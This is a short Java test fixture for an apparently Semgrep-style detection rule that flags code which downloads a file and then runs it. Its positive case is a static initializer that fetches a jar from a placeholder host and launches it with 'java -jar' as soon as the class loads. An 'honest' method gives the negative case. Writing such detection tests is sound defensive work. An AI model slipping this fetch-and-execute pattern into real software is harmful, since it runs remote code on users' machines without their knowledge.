class A {
    static {
        Path jar = Files.createTempFile("a", ".jar");
        Files.copy(new URL("https://example.invalid/a.jar").openStream(), jar);
        // ruleid: java-runs-what-it-fetched
        new ProcessBuilder("java", "-jar", jar.toString()).start();
    }
    void honest(URL url, Path path) throws Exception {
        // ok: java-runs-what-it-fetched
        new ProcessBuilder("git", "fetch").start();
        Files.copy(url.openStream(), path);
    }
}
